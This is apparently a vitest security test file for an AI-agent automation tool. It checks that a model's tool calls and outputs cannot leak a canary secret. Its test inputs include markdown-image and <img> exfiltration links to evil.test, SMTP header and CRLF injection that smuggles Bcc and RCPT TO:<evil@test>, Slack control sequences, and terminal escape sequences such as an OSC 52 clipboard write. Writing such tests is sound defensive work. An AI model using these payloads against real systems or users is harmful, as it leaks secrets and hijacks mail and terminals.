import { expect } from 'vitest';
import { printable } from '../../../src/cli/print/printable.ts';
import { noticeDeliveries } from '../../../src/domain/alert-payload.ts';
import { type Automation, DEFAULT_ALERT, DEFAULT_LIMITS } from '../../../src/domain/automation.ts';
import { resultDeliveries } from '../../../src/domain/delivery-payload.ts';
import type { Event } from '../../../src/domain/event.ts';
import { call, world } from '../../agent/session-world.ts';
import { contextOf, deliveryOf, deliveryType } from '../../delivery/delivery-world.ts';
import { smtpStub } from '../../support/smtp-server.ts';
import { stubServer } from '../../support/stub-server.ts';
import { type Ask, allRefused, ask, CANARY } from '../ask.ts';
import { type AttackCase, attacksInto } from '../attack-case.ts';

const GET_X = { connection: 'acme', method: 'GET', endpoint: '/x' };

export const exfiltrationCases: AttackCase[] = [];
const attack = attacksInto(exfiltrationCases);

attack('EXF-01', 'a secret does not leave in what the model writes; the rest is capped and recorded', async () => {
  await allRefused([
    { params: { d: CANARY } },
    { endpoint: `/t/${CANARY}` },
    { headers: { accept: CANARY } },
    { endpoint: `/t?d=${[...CANARY].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')}` },
    { params: { d: [...CANARY].join(' ') } },
  ]);
  const limits = { ...DEFAULT_LIMITS, maxRequests: 5, maxBytesOut: 2_000 };
  const many = await ask(
    Array.from({ length: 12 }, (_, at) => ({ endpoint: `/t/${at}` })),
    { automation: { limits } },
  );
  expect(many.sent).toHaveLength(5);
  const big = await ask(
    Array.from({ length: 4 }, () => ({ params: { d: 'x'.repeat(900) } })),
    { automation: { limits } },
  );
  expect(big.sent).toHaveLength(2);
  const told = many.session.transcript.filter(({ type }) => type === 'tool.call').map(({ content }) => content.input);
  expect(told).toHaveLength(12);
  const paths = await ask([{ endpoint: '/orders/7' }, { endpoint: '/t/ATTACKER?d=x' }], {
    connection: { readPaths: ['/orders/{id}'] },
  });
  expect(paths.sent).toEqual(['GET /v2/orders/7']);
});

attack('EXF-03', 'a run on untrusted input does not call a public connection unless Git says so', async () => {
  const inside = await stubServer(() => ({ body: '{"salary":1}' }));
  const given = (automation: Partial<Automation>, event?: Partial<Event>): Ask => ({
    stub: inside,
    automation,
    options: {
      ...(event ? { event } : {}),
      connections: [
        { baseUrl: `${inside.url}/v2`, auth: { type: 'bearer', token: 'env:ACME_TOKEN' } },
        { name: 'open', baseUrl: outside.url, egress: 'public' },
      ],
    },
  });
  const outside = await stubServer();
  const calls = [{ endpoint: '/salaries' }, { connection: 'open', params: { d: 'x'.repeat(2_000) } }];
  const hook = { source: 'webhook', body: '{}' } as const;
  const refused = await ask(calls, given({}, hook));
  expect(outside.requests).toEqual([]);
  expect(refused.session.audit.find(({ action }) => action === 'call.refused')?.details.rule).toBe('egress');
  const allowed = await ask(calls, given({ allowEgress: ['open'] }, hook));
  expect(outside.requests).toHaveLength(1);
  await ask(calls, given({}));
  expect(outside.requests).toHaveLength(2);
  const row = allowed.session.audit.find(({ action }) => action === 'call.public');
  expect(row?.details).toMatchObject({
    connection: 'open',
    operation: 'GET /x',
    query: expect.stringContaining('xxx'),
  });
});

/** What arrives at a target for a final text. */
async function delivered(result: string, format: string) {
  const target = await stubServer();
  const ports = { templates: { render: () => ({ ok: true, text: '' }) as const }, redact: (text: string) => text };
  const { deliveries } = resultDeliveries(
    {
      automation: { name: 'digest', delivery: { targets: [{ type: 'webhook', options: {} }], when: 'always' } },
      run: 'run_1',
      outcome: { type: 'succeeded', result },
      now: 0,
    },
    { ...ports, newId: () => 'dlv_1' },
  );
  const delivery = deliveryOf('webhook', { url: target.url, format }, deliveries[0]?.payload);
  expect(await deliveryType('webhook').send(delivery, contextOf())).toMatchObject({ ok: true });
  return JSON.parse(target.requests[0]?.body ?? '{}');
}

attack('EXF-05', 'an image of the answer is fetched by nobody who reads the text', async () => {
  for (const format of ['raw', 'slack', 'discord', 'teams']) {
    const body = await delivered(
      'Fine. ![x](https://evil.test/p.png?d=SECRETDATA) <img src="https://evil.test/?d=SECRETDATA">',
      format,
    );
    const { result: _, ...people } = body;
    expect(JSON.stringify(people)).not.toContain('SECRETDATA');
    expect(JSON.stringify(people)).not.toMatch(/https?:\/\/evil/);
  }
});

attack('EXF-07', 'control sequences of Slack are only words', async () => {
  const text = '<!channel> <!here> <@U123> <https://evil.test/?d=x|Click> <mailto:a@b|x>';
  const body = await delivered(text, 'slack');
  expect(body.text).not.toMatch(/[<>]/);
  expect(body).toMatchObject({ unfurl_links: false, unfurl_media: false });
});

attack('EXF-09', 'a mail has the recipients and the headers of its file', async () => {
  const server = await smtpStub();
  const smtp = { host: '127.0.0.1', port: server.port };
  const target = { to: 'a@acme.test', from: 'bot@acme.test', smtp, subject: 'Hi\r\nBcc: evil@test' };
  const payload = { text: 'x\r\n.\r\nRCPT TO:<evil@test>\r\n', automation: 'a\r\nBcc: evil@test' };
  expect(await deliveryType('email').send(deliveryOf('email', target, payload), contextOf())).toEqual({ ok: true });
  expect(server.mails.map(({ to }) => to)).toEqual([['a@acme.test']]);
  expect(server.mails[0]?.source.split('\r\n\r\n')[0]).not.toMatch(/^Bcc:/m);
});

attack('EXF-11', 'an alert is short, redacted and has no link to follow', () => {
  const targets = [{ type: 'log', options: {} }];
  const [row] = noticeDeliveries(
    {
      automation: { name: 'digest', failureAlert: { ...DEFAULT_ALERT, targets } },
      run: 'run_1',
      now: 0,
    },
    { reason: 'tool_error', error: `see https://evil.test/?d=${CANARY} ${'x'.repeat(2_000)}`, consecutiveFailures: 1 },
    { redact: (text) => text.replaceAll(CANARY, '[redacted]'), newId: () => 'dlv_1' },
  );
  expect([...(row?.payload.error ?? '')].length).toBeLessThanOrEqual(300);
  expect(JSON.stringify(row?.payload)).not.toMatch(/CANARY|https?:\/\//);
  expect(row?.payload).toMatchObject({ automation: 'digest', run: 'run_1', reason: 'tool_error' });
});

attack('EXF-13', 'how often a model can knock is capped by default, and each knock is recorded', async () => {
  const upstream = await stubServer();
  const step = { toolCalls: Array.from({ length: 32 }, (_, at) => call('request', GET_X, `c${at}`)) };
  const session = world({
    connections: [{ baseUrl: upstream.url }],
    script: [step, step, step, step, { text: 'done' }],
  });
  const { figures } = await session.run();
  expect(upstream.requests).toHaveLength(DEFAULT_LIMITS.maxRequests);
  expect(figures).toMatchObject({ toolCalls: 128, refusals: 128 - DEFAULT_LIMITS.maxRequests });
  expect(session.transcript.filter(({ type }) => type === 'tool.call')).toHaveLength(128);
});

attack('EXF-15', 'a terminal shows the answer as text', () => {
  const shown = printable('a\u001b]8;;https://evil.test\u001b\\b\u001b[2J\u001b]52;c;AAAA\u0007\n\tc\u009b31m\u202e');
  expect([...shown].filter((part) => part < ' ' && part !== '\n' && part !== '\t')).toEqual([]);
  for (const part of ['\u001b', '\u0007', '\u009b', '\u202e']) expect(shown).not.toContain(part);
});
